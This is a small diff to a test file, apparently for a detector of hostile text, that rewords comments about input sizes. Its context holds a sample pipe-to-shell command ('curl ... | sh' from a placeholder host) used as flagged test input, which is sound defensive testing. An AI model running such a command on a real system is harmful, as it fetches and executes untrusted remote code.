@@ -5,9 +5,9 @@ import { assertSound } from "./invariants.js";
 
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
-/** Enough for every bound but that of the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
+/** The length of the texts, which exceeds every limit but the size of one program. test/slow/hostile-sizes.test.ts doubles it. */
 const SIZE = 10_000;
-/** Families that exceed the size of one program when they are longer. */
+/** Families whose texts are twice as long, so that they exceed the size of one program. */
 const LONGER = [
   "angle brackets without spaces",
   "closing parentheses",
